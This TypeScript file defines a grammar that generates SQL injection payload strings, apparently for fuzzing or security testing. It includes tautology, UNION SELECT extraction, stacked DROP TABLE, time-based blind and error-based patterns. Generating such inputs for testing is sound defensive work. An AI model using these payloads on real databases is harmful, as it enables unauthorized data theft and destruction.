import type { Grammar } from '../grammar.ts';
import { words } from '../words.ts';

/** SQL injection (CWE-89). */
export const sqli: Grammar = {
  ...words,
  start: [
    '<lead><tail>',
    '<number><space>and<space><number>=<number><end>',
    '<lead><space>order<space>by<space><number><end>',
  ],
  lead: ["<number>'", '<number>"', "<ident>'", "<number>')", '-<number>', "<ident>'))"],
  tail: [
    '<space>or<space><number>=<number><end>',
    '<space>union<space>select<space><columns><space>from<space><ident><end>',
    ';<space>drop<space>table<space><ident><end>',
    ";<space>waitfor<space>delay<space>'0:0:<digit>'<end>",
    '<space>and<space>sleep(<digit>)<end>',
    '<space>and<space>extractvalue(<number>,concat(0x7e,version()))<end>',
    "'||(select<space><ident><space>from<space><ident>)||'",
  ],
  columns: ['null', 'null,null', '<number>,<ident>,null', 'concat(<ident>,0x3a,<ident>)', '@@version,<number>'],
  end: ['--', '-- -', '#', '/*', ''],
};
